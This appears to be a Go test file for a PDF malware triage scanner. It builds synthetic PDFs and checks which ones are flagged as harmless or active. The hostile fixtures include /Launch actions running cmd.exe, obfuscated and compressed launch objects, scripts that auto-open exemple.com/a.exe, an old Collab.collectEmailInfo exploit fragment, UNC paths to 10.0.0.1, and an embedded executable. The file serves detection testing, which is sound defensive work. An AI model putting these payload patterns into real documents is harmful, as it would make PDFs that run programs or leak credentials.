package triage_test

import (
	"bytes"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"estran/session"
)

// specimen is a file and what is to be found in it; nothing, for the harmless ones.
type specimen struct {
	name    session.Private
	content []byte
	want    []session.Reason
}

func lookAtAll(t *testing.T, specimens map[string]specimen) {
	t.Helper()
	harmless, hostile := 0, 0
	for why, s := range specimens {
		switch {
		case s.want == nil:
			harmless++
		case slices.ContainsFunc(s.want, isFinding):
			hostile++
		}
		t.Run(why, func(t *testing.T) {
			if diff := cmp.Diff(s.want, lookAt(t, s.name, s.content)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
	if harmless < hostile {
		t.Errorf("%d harmless for %d hostile: a false alarm is as bad as a miss", harmless, hostile)
	}
}

// isFinding says that a reason makes a file suspect, and not only unchecked.
func isFinding(r session.Reason) bool {
	switch r {
	case session.ReasonEncrypted, session.ReasonDamaged, session.ReasonTooComplex, session.ReasonScriptedPage,
		session.ReasonArchiveLimits:
		return false
	default:
		return true
	}
}

// pdfOf is a PDF of numbered objects, the first being the catalog's entries, with a page.
func pdfOf(catalog string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	all := append([]string{
		"<</Type/Catalog/Pages 2 0 R " + catalog + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
	}, objects...)
	for i, o := range all {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n0\n%%%%EOF\n", len(all)+1)
	return b.Bytes()
}

func streamOf(entries, content string) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", entries, len(content), content)
}

func deflated(content string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(content))
	_ = w.Close()
	return b.String()
}

// packedObjects is an object stream, in which two objects lie: 20 and 21.
func packedObjects(first, second string) (entries, content string) {
	table := fmt.Sprintf("20 0 21 %d ", len(first)+1)
	return fmt.Sprintf("/Type/ObjStm/N 2/First %d", len(table)), table + first + " " + second
}

func in85(content string) string {
	var b bytes.Buffer
	w := ascii85.NewEncoder(&b)
	_, _ = w.Write([]byte(content))
	_ = w.Close()
	return b.String() + "~>"
}

// upRows is content as the Up predictor of PNG has it, in rows of four bytes.
func upRows(content string) string {
	content += strings.Repeat(" ", 3-(len(content)+3)%4)
	var b bytes.Buffer
	above := make([]byte, 4)
	for ; len(content) >= 4; content = content[4:] {
		b.WriteByte(2)
		for i := range above {
			b.WriteByte(content[i] - above[i])
			above[i] = content[i]
		}
	}
	return b.String()
}

func TestPDF(t *testing.T) {
	active := []session.Reason{session.ReasonActivePDF}
	const form = "/AcroForm<</Fields[10 0 R]>>"
	script := func(catalog, js string) []byte {
		return pdfOf(catalog+"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "<</S/JavaScript/JS("+js+")>>")
	}
	launch := "<</S/Launch/F(cmd.exe)>>"
	packedEntries, packed := packedObjects("<</Type/Catalog/Pages 2 0 R/OpenAction 21 0 R>>", launch)
	calmEntries, calm := packedObjects("<</Type/Catalog/Pages 2 0 R/OpenAction 21 0 R>>", "<</S/GoTo/D[3 0 R/Fit]>>")
	exe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + strings.Repeat("\x00", 100)
	attached := func(name, content string) []byte {
		return pdfOf("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>",
			"<</Type/Filespec/F("+name+")/UF("+name+")/EF<</F 5 0 R>>>>",
			streamOf("/Type/EmbeddedFile/Filter/FlateDecode", deflated(content)))
	}
	facturX := `<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact"/>`

	lookAtAll(t, map[string]specimen{
		"a plain one":                   {"avis.pdf", pdfOf(""), nil},
		"blanks before the header":      {"avis.pdf", append([]byte("\r\n\r\n"), pdfOf("")...), nil},
		"opens on a page":               {"avis.pdf", pdfOf("/OpenAction[3 0 R/XYZ null null 0]"), nil},
		"opens on a page, by an action": {"avis.pdf", pdfOf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), nil},
		"opens in print":                {"billet.pdf", pdfOf("/OpenAction<</S/Named/N/Print>>"), nil},
		"opens in print, by a script":   {"billet.pdf", pdfOf("/OpenAction<</S/JavaScript/JS(this.print\\(true\\);)>>"), nil},
		"prints silently":               {"billet.pdf", script("", `var pp = this.getPrintParams\(\); pp.interactive = pp.constants.interactionLevel.automatic; this.print\(pp\);`), nil},
		"a form that formats":           {"cerfa_12345.pdf", script(form, `function montant\(\) { AFNumber_Format\(2, 0, 0, 0, "€", true\); event.value = this.getField\("a"\).value * 2 }`), nil},
		"a form with a date": {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>",
			`<</FT/Tx/T(date)/AA<</F<</S/JavaScript/JS(AFDate_FormatEx\("dd/mm/yyyy"\);)>>/K<</S/JavaScript/JS(AFDate_KeystrokeEx\("dd/mm/yyyy"\);)>>>>>>`), nil},
		"a form with a button that sends": {"demande.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>",
			`<</FT/Btn/T(envoyer)/A<</S/JavaScript/JS(this.submitForm\("mailto:caf@exemple.fr"\);)>>>>`), nil},
		"a form whose button calls a function": {"demande.pdf", script(form, `function envoyer\(\) { if \(ok\) { this.submitForm\("https://exemple.fr/x"\); } }`), nil},
		"a form with a button for a program":   {"demande.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>", `<</FT/Btn/A<</S/SubmitForm/F<</FS/URL/F(https://exemple.fr)>>>>>>`), nil},
		"an XFA form that reckons": {"cerfa.pdf", pdfOf("/AcroForm<</XFA[(template) 4 0 R]>>",
			streamOf("/Filter/FlateDecode", deflated(`<template><script contentType="application/x-javascript">this.rawValue = a.rawValue + 1; xfa.host.messageBox("Date incorrecte");</script></template>`))), nil},
		"links":                          {"cv.pdf", pdfOf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.caf.fr)>>>>"), nil},
		"a link to a file of the writer": {"cv.pdf", pdfOf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(file:///C:/Users/zoe/cv.docx)>>>>"), nil},
		"a link to a file beside it":     {"cours.pdf", pdfOf("", "<</Type/Annot/A<</S/GoToR/F(chapitre2.pdf)/D[0/Fit]>>>>"), nil},
		"an invoice with its data":       {"facture.pdf", attached("factur-x.xml", facturX), nil},
		"a portfolio":                    {"dossier.pdf", pdfOf("/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec/F(avis.pdf)/EF<</F 5 0 R>>>>", streamOf("/Type/EmbeddedFile", string(pdfOf("")))), nil},
		"a signed one":                   {"contrat.pdf", pdfOf("/AcroForm<</SigFlags 3/Fields[4 0 R]>>", "<</FT/Sig/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<3080>/ByteRange[0 1 2 3]>>>>"), nil},
		"changed and saved again":        {"avis.pdf", append(pdfOf(""), pdfOf("")...), nil},
		"a calm object stream":           {"avis.pdf", pdfOf("", streamOf(calmEntries+"/Filter/FlateDecode", deflated(calm))), nil},
		"words in a text":                {"cours.pdf", pdfOf("", streamOf("", "BT (/S /Launch et /JavaScript) Tj ET")), nil},
		"words in a title":               {"cours.pdf", pdfOf("", "<</Title(/S/Launch /JS /OpenAction)>>"), nil},
		"tagged":                         {"cours.pdf", pdfOf("", "<</S/Document/P 3 0 R/K[5 0 R]>>", "<</S/Link/P 4 0 R>>"), nil},
		"a link to a document beside it": {"cours.pdf", pdfOf("", "<</Type/Annot/A<</S/Launch/F(annexe.odt)>>>>"), nil},
		"a video":                        {"expo.pdf", pdfOf("", "<</Type/Annot/Subtype/Screen/A<</S/Rendition/OP 0>>>>"), nil},

		"launches":                        {"facture.pdf", pdfOf("/OpenAction" + launch), active},
		"a form that checks a number":     {"cerfa.pdf", script(form, `if \(!/^[0-9]{13}$/.test\(event.value\)\) { app.alert\("Le numéro a 13 chiffres"\); event.rc = false; }`), nil},
		"a form that adds up":             {"cerfa.pdf", script(form, `AFSimple_Calculate\("SUM", new Array \("a", "b"\)\);`), nil},
		"a form that reckons a page":      {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>", `<</FT/Tx/Parent 5 0 R/AA<</C<</S/JavaScript/JS(event.value = eval\("1+1"\);)>>>>>>`, "<</T(a)>>"), nil},
		"a form with a button to reset":   {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>", `<</FT/Btn/Subtype/Widget/A<</S/ResetForm>>>>`), nil},
		"a form with a button to print":   {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>", `<</FT/Btn/AA<</U<</S/JavaScript/JS(this.print\(\);)>>>>>>`), nil},
		"a form with a button to a site":  {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>", `<</FT/Btn/AA<</U<</S/JavaScript/JS(app.launchURL\("https://www.caf.fr", true\);)>>>>>>`), nil},
		"a form with a button to attach":  {"cerfa.pdf", pdfOf("/AcroForm<</Fields[4 0 R]>>", `<</FT/Btn/A<</S/JavaScript/JS(this.importDataObject\("piece"\);)>>>>`), nil},
		"a form of several pages":         {"cerfa.pdf", script(form, `function suite\(\) { this.pageNum++; } function efface\(\) { this.resetForm\(\); }`), nil},
		"a form that shows the day":       {"cerfa.pdf", script(form, `var d = new Date\(\); this.getField\("date"\).value = util.printd\("dd/mm/yyyy", d\);`), nil},
		"opens full screen":               {"expo.pdf", pdfOf("/PageMode/FullScreen/OpenAction<</S/JavaScript/JS(app.fs.isFullScreen = true;)>>"), nil},
		"a script of remarks alone":       {"avis.pdf", pdfOf("/OpenAction<</S/JavaScript/JS(// rien\n/* app.launchURL */ this.zoom = 100;)>>"), nil},
		"with layers":                     {"plan.pdf", pdfOf("/OCProperties<</OCGs[4 0 R]>>", "<</Type/OCG/Name(a)>>", "<</S/SetOCGState/State[/ON 4 0 R]>>"), nil},
		"with a sound":                    {"expo.pdf", pdfOf("", "<</A<</S/Sound/Sound 5 0 R>>>>"), nil},
		"with articles and a hidden note": {"cours.pdf", pdfOf("", "<</A<</S/Hide/T(a)>>>>", "<</A<</S/Thread/D 0>>>>"), nil},
		"a length that comes later":       {"avis.pdf", pdfOf("", "<</Length 5 0 R>>\nstream\nBT ET\nendstream", "5"), nil},

		"launches a document by itself":        {"facture.pdf", pdfOf("/OpenAction<</S/Launch/F(annexe.odt)>>"), active},
		"launches with parameters":             {"facture.pdf", pdfOf("", "<</A<</S/Launch/F(a.odt)/Win<</F(cmd)/P(/c)>>>>>>"), active},
		"launches on a click":                  {"facture.pdf", pdfOf("", "<</Type/Annot/Subtype/Link/A"+launch+">>"), active},
		"launches, spelt otherwise":            {"facture.pdf", pdfOf("/OpenAction<</#53/L#61unch/F(cmd.exe)>>"), active},
		"launches, named elsewhere":            {"facture.pdf", pdfOf("/OpenAction 4 0 R", "<</S 5 0 R/F(cmd.exe)>>", "/Launch"), active},
		"launches, said twice":                 {"facture.pdf", pdfOf("/OpenAction<</S/GoTo/S/Launch/F(cmd.exe)>>"), active},
		"launches from an object stream":       {"facture.pdf", pdfOf("", streamOf(packedEntries, packed)), active},
		"from a compressed one":                {"facture.pdf", pdfOf("", streamOf(packedEntries+"/Filter/FlateDecode", deflated(packed))), active},
		"from one without a type":              {"facture.pdf", pdfOf("", streamOf(strings.Replace(packedEntries, "/Type/ObjStm", "", 1)+"/Filter/Fl", deflated(packed))), active},
		"from a chain of filters":              {"facture.pdf", pdfOf("", streamOf(packedEntries+"/Filter[/ASCIIHexDecode/A85/FlateDecode]", hex.EncodeToString([]byte(in85(deflated(packed))))+">")), active},
		"with a predictor":                     {"facture.pdf", pdfOf("", streamOf(packedEntries+"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>", deflated(upRows(packed)))), active},
		"with a length that lies":              {"facture.pdf", pdfOf("", strings.Replace(streamOf(packedEntries+"/Filter/FlateDecode", deflated(packed)), "/Length ", "/Length 9999", 1)), active},
		"added at the end":                     {"facture.pdf", append(pdfOf(""), pdfOf("/OpenAction"+launch)...), active},
		"replaced at the end":                  {"facture.pdf", append(pdfOf("/OpenAction"+launch), pdfOf("")...), active},
		"hidden in a stream":                   {"facture.pdf", pdfOf("", streamOf("", "4 0 obj "+launch+" endobj")), active},
		"a header that comes late":             {"facture.pdf", append(bytes.Repeat([]byte("x "), 400), pdfOf("/OpenAction"+launch)...), active},
		"a script of its own":                  {"facture.pdf", script("", `app.alert\("Bonjour"\); this.exportDataObject\({cName: "a"}\)`), active},
		"a form that opens an attachment":      {"facture.pdf", script(form, `this.exportDataObject\({cName:"a.exe", nLaunch: 2}\);`), active},
		"a form that opens a site by itself":   {"facture.pdf", script(form, `app.launchURL\("http://exemple.com/a.exe"\);`), active},
		"a function that is called at once":    {"facture.pdf", script(form, `function f\(\) { app.launchURL\("http://exemple.com"\) } f\(\);`), active},
		"an old exploit":                       {"facture.pdf", script(form, `var x = unescape\("%u9090%u9090"\); Collab.collectEmailInfo\({msg: x}\);`), active},
		"unpacks itself":                       {"facture.pdf", script(form, `var s = String.fromCharCode\(97\); eval\(s\);`), active},
		"hides a call":                         {"facture.pdf", script(form, `app["launch" + "URL"]\("http://exemple.com"\)`), active},
		"a script in a stream":                 {"facture.pdf", pdfOf("/OpenAction<</S/JavaScript/JS 4 0 R>>", streamOf("/Filter/FlateDecode", deflated("app.launchURL('http://exemple.com')"))), active},
		"a script in UTF-16":                   {"facture.pdf", pdfOf("/OpenAction<</S/JavaScript/JS<FEFF006500760061006C00280061002900 >>>"), active},
		"a script in a page":                   {"facture.pdf", pdfOf(form, "<</Type/Page/AA<</O<</S/JavaScript/JS(app.launchURL\\('http://exemple.com'\\))>>>>>>"), active},
		"a script by an address":               {"facture.pdf", pdfOf("", "<</A<</S/URI/URI(javascript:alert\\(1\\))>>>>"), active},
		"sends by itself":                      {"facture.pdf", pdfOf("/OpenAction<</S/SubmitForm/F(http://exemple.com)>>"), active},
		"opens a site by itself":               {"facture.pdf", pdfOf("/OpenAction<</S/URI/URI(http://exemple.com)>>"), active},
		"takes data in":                        {"facture.pdf", pdfOf("/OpenAction<</S/ImportData/F(a.fdf)>>"), active},
		"goes to another computer":             {"facture.pdf", pdfOf("", "<</Type/Page/AA<</O<</S/GoToE/F(\\\\\\\\10.0.0.1\\\\a)/D[0/Fit]>>>>>>"), active},
		"a stream that is on another computer": {"facture.pdf", pdfOf("", "<</F(\\\\\\\\10.0.0.1\\\\a)/Length 0>>\nstream\n\nendstream"), active},
		"Flash":                                {"facture.pdf", pdfOf("", "<</Type/Annot/Subtype/RichMedia>>"), active},
		"an XFA form that opens an attachment": {"cerfa.pdf", pdfOf("/AcroForm<</XFA 4 0 R>>", streamOf("", `<script>this.exportDataObject({cName:"a",nLaunch:2})</script>`)), active},
		"an XFA form that shows a password":    {"cerfa.pdf", pdfOf("/AcroForm<</XFA 4 0 R>>", streamOf("", `<?xml-stylesheet type="text/xsl" href="\\10.0.0.1\a.xsl"?>`)), active},
		"a program in it":                      {"facture.pdf", attached("facture.exe", exe), []session.Reason{session.ReasonProgram, session.ReasonInside}},
		"a program under another name":         {"facture.pdf", attached("facture.xml", exe), []session.Reason{session.ReasonProgram, session.ReasonExtensionMismatch, session.ReasonInside}},
		"a password":                           {"relevé.pdf", append(pdfOf(""), "trailer <</Encrypt 9 0 R/Root 1 0 R>>"...), []session.Reason{session.ReasonEncrypted}},
		"a password, named in a table":         {"relevé.pdf", pdfOf("", streamOf("/Type/XRef/Encrypt 9 0 R/W[1 1 1]", "")), []session.Reason{session.ReasonEncrypted}},
		"nothing but a header":                 {"avis.pdf", []byte("%PDF-1.4\n\x00\x01\x02"), []session.Reason{session.ReasonDamaged}},
		"a bomb of objects":                    {"avis.pdf", pdfOf("", streamOf(packedEntries+"/Filter/FlateDecode", deflated(strings.Repeat(" ", 80<<20)))), []session.Reason{session.ReasonTooComplex}},
	})
}

func FuzzPDF(f *testing.F) {
	entries, packed := packedObjects("<</A 1>>", "<</S/Launch>>")
	f.Add(pdfOf("/OpenAction<</S/Launch/F(cmd.exe)>>"))
	f.Add(pdfOf("", streamOf(entries+"/Filter[/ASCIIHexDecode/A85/FlateDecode]", hex.EncodeToString([]byte(in85(deflated(packed))))+">")))
	f.Add(pdfOf("", streamOf(entries+"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>", deflated(upRows(packed)))))
	f.Add(pdfOf("", streamOf(entries+"/Filter[/LZW/RL]", "\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")))
	f.Add(append(pdfOf(""), "trailer <</Encrypt<</V 2/R 3/O(a)/U(b)/P -4/Length 128>>/ID[(a)(b)]/Root 1 0 R>>"...))
	f.Add(pdfOf("/AcroForm<</XFA 4 0 R>>/Names<</JavaScript<</Names[(a)<</JS 4 0 R>>]>>>>", streamOf("", `<script>function a(){}</script>`)))
	f.Fuzz(func(t *testing.T, b []byte) {
		lookAt(t, "a.pdf", append([]byte("%PDF-1.7\n"), b...))
	})
}

func BenchmarkPDF(b *testing.B) {
	var pages []string
	for range 2000 {
		pages = append(pages, "<</Type/Page/Parent 2 0 R/Annots[<</Subtype/Link/A<</S/URI/URI(https://www.caf.fr)>>>>]>>",
			streamOf("/Filter/FlateDecode", strings.Repeat("\x12\x34\xfe\xdc\x98", 2000)))
	}
	doc := pdfOf("", pages...)
	b.SetBytes(int64(len(doc)))
	for b.Loop() {
		lookAt(b, "a.pdf", doc)
	}
}
